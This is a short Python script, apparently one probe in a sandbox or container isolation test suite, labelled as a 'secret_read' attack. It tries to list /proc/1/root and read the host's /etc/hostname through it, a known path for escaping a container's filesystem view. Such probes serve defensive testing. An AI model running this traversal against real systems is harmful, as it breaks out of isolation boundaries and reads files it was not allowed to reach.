# attack: proc_root_traverse
# category: proc_sys
# kind: secret_read
# describe: walk into pid 1's root through /proc/1/root
import os
try:
    print(os.listdir("/proc/1/root"))
    print(open("/proc/1/root/etc/hostname").read())
except OSError as e:
    print(e)
